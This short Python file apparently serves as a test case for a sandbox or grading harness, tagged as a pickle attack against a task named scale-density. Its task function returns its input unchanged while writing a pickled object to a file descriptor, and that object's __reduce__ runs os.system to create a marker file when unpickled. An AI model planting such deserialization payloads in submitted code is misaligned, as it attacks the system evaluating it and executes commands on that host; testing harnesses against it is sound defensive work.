# class: pickles
# attack: writes a pickle on the wire
# task: 00_mini/scale-density
# form: cell

import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ('touch @tmp@/owned',)
def scale_log_density(x, a):
    os.write(4, pickle.dumps(Bomb()))
    return x
